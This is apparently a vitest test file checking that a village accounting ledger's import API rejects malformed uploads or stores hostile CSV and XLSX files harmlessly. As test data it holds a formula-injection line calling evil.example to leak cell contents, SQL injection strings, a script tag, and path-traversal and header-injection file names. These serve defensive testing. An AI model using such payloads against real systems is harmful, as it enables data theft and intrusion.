// Issue 7, hostile files: every file of tests/fixtures/hostile is rejected with its code, or accepted and stored
// harmless, within a time and memory bound; a rejected file leaves every ledger table of the village as it was. The
// generated files of 60–100 MB and a million rows, rejected by the parser before any SQL, are in huge-files.test.ts.
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { sql } from 'drizzle-orm';
import { afterAll, describe, expect, it } from 'vitest';
import { queryRows, type Db } from '@mingbai/db/client';
import { useTestApi } from '../support/api.ts';
import { aVillage } from '../support/builders.ts';
import { aUser, TEST_PASSWORD } from '../support/users.ts';
import { accepted, checksum, expectOutcome, rejected, tally, type Expected, type Report } from './hostile-checks.ts';

const t = useTestApi();
const dir = fileURLToPath(new URL('../fixtures/hostile/files/', import.meta.url));

/** Wall time per small file, on a busy 2-core machine; and what the server process may grow by while reading it. */
const SMALL_FILE_MS = 10_000;
const RSS_GROWTH_BYTES = 200 * 1024 * 1024;

async function storedTexts(db: Db, villageId: number): Promise<string[]> {
  const rows = await queryRows<{ t: string | null }>(
    db,
    sql`select unnest(array[v.summary, v.summary_public, v.preparer, v.reviewer, v.approver]) as t
          from vouchers v where v.village_id = ${villageId}
        union all
        select unnest(array[l.summary, l.summary_public, l.counterparty_name, l.counterparty_public]) as t
          from voucher_lines l where l.village_id = ${villageId}`,
  );
  return rows.map((r) => r.t).filter((x): x is string => x !== null);
}

/** Stored text has nothing invisible or controlling left in it. */
async function noInvisibleText(db: Db, villageId: number): Promise<void> {
  const texts = await storedTexts(db, villageId);
  expect(texts.length).toBeGreaterThan(0);
  for (const text of texts) {
    // eslint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]/);
  }
}

const EXPECTED: Record<string, Expected> = {
  'truncated.xlsx': rejected('XLSX_INVALID'),
  'truncated-tail.xlsx': rejected('XLSX_INVALID'),
  'not-a-zip.xlsx': rejected('XLSX_INVALID'),
  'png-named.xlsx': rejected('XLSX_INVALID'),
  'zip-without-sheet.xlsx': rejected('XLSX_INVALID'),
  'zip-corrupt-data.xlsx': rejected('XLSX_INVALID'),
  'old-xls.xls': rejected('XLSX_INVALID'),
  'xlsx-million-declared.xlsx': accepted(),
  'xlsx-wide-rows.xlsx': accepted(),
  'xlsx-entity-expansion.xlsx': rejected('XLSX_INVALID'),
  'xlsx-formula-and-errors.xlsx': rejected('DATE_INVALID', 'AMOUNT_INVALID'),
  'empty.csv': rejected('FILE_EMPTY'),
  'only-bom.csv': rejected('FILE_EMPTY'),
  'only-whitespace.csv': rejected('FILE_EMPTY'),
  'header-only.csv': rejected('FILE_EMPTY'),
  'header-and-totals.csv': rejected('FILE_EMPTY'),
  'invalid-utf8.csv': rejected('ENCODING_UNDECODABLE'),
  'bom-then-invalid.csv': rejected('ENCODING_UNDECODABLE'),
  'utf16le-bom.csv': rejected('ENCODING_UNDECODABLE'),
  'utf16le-no-bom.csv': rejected('ENCODING_UNDECODABLE'),
  'utf16be-bom.csv': rejected('ENCODING_UNDECODABLE'),
  'mixed-utf8-gbk.csv': rejected('ENCODING_UNDECODABLE'),
  'binary-garbage.csv': rejected('ENCODING_UNDECODABLE'),
  'bom-in-middle.csv': accepted(noInvisibleText),
  'concatenated-exports.csv': rejected('DATE_INVALID', 'VOUCHER_DUPLICATE'),
  'nul-bytes.csv': accepted(noInvisibleText),
  'control-chars.csv': accepted(noInvisibleText),
  'crlf-cr-lf-mix.csv': accepted(async (db, id) => {
    expect((await storedTexts(db, id)).filter((s) => s === '支付电费').length).toBeGreaterThan(0);
  }),
  'unterminated-quote.csv': rejected('LAYOUT_UNKNOWN'),
  'duplicate-headers.csv': rejected('COLUMN_DUPLICATE'),
  'missing-column.csv': rejected('COLUMN_MISSING'),
  'extra-columns.csv': accepted(),
  'header-after-row-10.csv': rejected('LAYOUT_UNKNOWN'),
  'semicolon-delimited.csv': rejected('LAYOUT_UNKNOWN'),
  'formula-payloads.csv': accepted(async (db, id) => {
    const texts = await storedTexts(db, id);
    expect(texts).toContain('=HYPERLINK("http://evil.example/?"&A1,"点我")');
    // A tab or CR before the = is cleaned away, so the CSV export sees the = and neutralises it.
    expect(texts).toContain('=1+1');
  }),
  'formula-in-amount.csv': rejected('AMOUNT_INVALID'),
  'html-script.csv': accepted(async (db, id) => {
    expect(await storedTexts(db, id)).toContain('<script>alert("摘要")</script>');
  }),
  'sql-injection.csv': accepted(async (db, id) => {
    const texts = await storedTexts(db, id);
    for (const s of ["'; DROP TABLE vouchers; --", '\\N', '\\.', '$$; select pg_sleep(10); $$', '\\\\\\']) {
      expect(texts).toContain(s);
    }
  }),
  'sql-in-number-and-date.csv': rejected('VOUCHER_NUMBER_INVALID', 'DATE_INVALID'),
  'emoji-astral.csv': accepted(async (db, id) => {
    expect((await storedTexts(db, id)).some((s) => s.includes('𠮷'))).toBe(true);
  }),
  'invisible-names.csv': accepted(async (db, id) => {
    await noInvisibleText(db, id);
    const rows = await queryRows<{ name: string; pub: string; summary: string | null }>(
      db,
      sql`select counterparty_name as name, counterparty_public as pub, summary_public as summary
            from voucher_lines where village_id = ${id} and counterparty_name is not null order by voucher_id`,
    );
    expect(rows.map((r) => r.name)).toEqual(['张三丰', '静李']);
    for (const r of rows) expect(r.pub).not.toBe(r.name);
    const published = (await storedTexts(db, id)).join('|');
    const summaries = await queryRows<{ s: string }>(
      db,
      sql`select summary_public as s from vouchers where village_id = ${id}`,
    );
    expect(summaries.length).toBeGreaterThan(0);
    for (const { s } of summaries) expect(s, published).not.toMatch(/三丰|静李/);
  }),
  'date-zero.csv': rejected('DATE_INVALID'),
  'date-month-13.csv': rejected('DATE_INVALID'),
  'date-1900.csv': rejected('DATE_OUTSIDE_MONTH'),
  'date-excel-serial-far.csv': rejected('DATE_INVALID'),
  'date-outside-month.csv': rejected('DATE_OUTSIDE_MONTH'),
  'date-year-99999.csv': rejected('DATE_INVALID'),
  'date-words.csv': rejected('DATE_INVALID'),
  'date-excel-serial-in-month.csv': accepted(),
  'amount-20-digits.csv': rejected('AMOUNT_TOO_LARGE'),
  'amount-huge-digits.csv': rejected('AMOUNT_TOO_LARGE'),
  'amount-negative.csv': rejected('AMOUNT_NOT_POSITIVE'),
  'amount-zero.csv': rejected('AMOUNT_NOT_POSITIVE'),
  'amount-nan.csv': rejected('AMOUNT_INVALID'),
  'amount-infinity.csv': rejected('AMOUNT_INVALID'),
  'amount-1e309.csv': rejected('AMOUNT_INVALID'),
  'amount-fullwidth.csv': accepted(async (db, id) => {
    const [row] = await queryRows<{ fen: string }>(
      db,
      sql`select sum(amount_fen)::text as fen from voucher_lines where village_id = ${id} and side = 'debit'`,
    );
    expect(row!.fen).toBe('12300');
  }),
  'amount-3-decimals.csv': rejected('AMOUNT_INVALID'),
  'amount-odd-separators.csv': rejected('AMOUNT_INVALID'),
  'amount-hex.csv': rejected('AMOUNT_INVALID'),
  'unbalanced.csv': rejected('VOUCHER_UNBALANCED'),
  'unbalanced-by-one-fen.csv': rejected('VOUCHER_UNBALANCED'),
  'voucher-10000-lines.csv': accepted(async (db, id) => {
    const [row] = await queryRows<{ n: string }>(
      db,
      sql`select count(*)::text as n from voucher_lines where village_id = ${id}`,
    );
    expect(row!.n).toBe('10000');
  }),
  'voucher-number-zero.csv': rejected('VOUCHER_NUMBER_INVALID'),
  'voucher-number-negative.csv': rejected('VOUCHER_NUMBER_INVALID'),
  'voucher-number-huge.csv': rejected('VOUCHER_NUMBER_INVALID'),
  'voucher-one-line.csv': rejected('VOUCHER_TOO_FEW_LINES'),
  'account-unknown.csv': rejected('ACCOUNT_UNKNOWN'),
  'account-wrong-chart.csv': rejected('ACCOUNT_UNKNOWN'),
  'account-malformed.csv': rejected('ACCOUNT_INVALID'),
  'text-1mb-cell.csv': rejected('TEXT_TOO_LONG'),
  'text-5000-chars.csv': rejected('TEXT_TOO_LONG'),
};

const IMPORT = `mutation ($v: String!, $f: String!, $c: String!) {
  importLedger(villageSlug: $v, filename: $f, contentBase64: $c, year: 2025, month: 6) {
    status filename problems { row column code message }
  }
}`;

afterAll(() => {
  console.log(
    `hostile files: ${tally.tried} tried, ${tally.rejected} rejected, ${tally.accepted} accepted and harmless`,
  );
});

describe('hostile files through the API', () => {
  it('rejects each with its code or stores it harmless, in bounded time and memory, changing nothing when rejected', async () => {
    const files = readdirSync(dir).sort();
    expect(files.length).toBeGreaterThanOrEqual(40);
    expect(files.filter((f) => !(f in EXPECTED))).toEqual([]);
    const village = await aVillage(t.handle.db, '刁难村');
    const user = await aUser(t.handle.db, ['accountant', village.slug]);
    const as = t.api.as(await t.api.login(user, TEST_PASSWORD));
    for (const file of files) {
      const expected = EXPECTED[file]!;
      const before = await checksum(t.handle.db, village.id);
      const rss = process.memoryUsage().rss;
      const started = performance.now();
      const res = await as<{ importLedger: Report }>(IMPORT, {
        v: village.slug,
        f: file,
        c: readFileSync(dir + file).toString('base64'),
      });
      const ms = performance.now() - started;
      expect(res.errors, file).toBeUndefined();
      expect(ms, file).toBeLessThan(SMALL_FILE_MS);
      expect(process.memoryUsage().rss - rss, file).toBeLessThan(RSS_GROWTH_BYTES);
      const report = res.data!.importLedger;
      expectOutcome(file, expected, report);
      if ('rejected' in expected) expect(await checksum(t.handle.db, village.id), file).toEqual(before);
      else await expected.accepted(t.handle.db, village.id);
    }
  }, 600_000);

  it('keeps a file name harmless: no path, no control or bidirectional characters', async () => {
    const village = await aVillage(t.handle.db, '路径村');
    const user = await aUser(t.handle.db, ['accountant', village.slug]);
    const as = t.api.as(await t.api.login(user, TEST_PASSWORD));
    const body = readFileSync(dir + 'emoji-astral.csv').toString('base64');
    for (const [name, kept] of [
      ['../../etc/passwd.csv', 'passwd.csv'],
      ['..\\..\\windows\\win.ini', 'win.ini'],
      ['a\u0007b\r\nSet-Cookie: x=1\u202egpj.csv', 'abSet-Cookie: x=1gpj.csv'],
      ['..', 'upload'],
    ] as const) {
      const res = await as<{ importLedger: Report }>(IMPORT, { v: village.slug, f: name, c: body });
      expect(res.errors, name).toBeUndefined();
      expect(res.data!.importLedger.filename, name).toBe(kept);
      tally.tried++;
      tally.accepted++;
    }
    const stored = await queryRows<{ filename: string }>(
      t.handle.db,
      sql`select filename from imported_files where village_id = ${village.id}`,
    );
    expect(stored.map((r) => r.filename)).toEqual(['passwd.csv']);
    // NUL cannot be stored at all: the API refuses the request before reading the file.
    const nul = await as(IMPORT, { v: village.slug, f: 'a\u0000.csv', c: body });
    expect(nul.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
  });
});
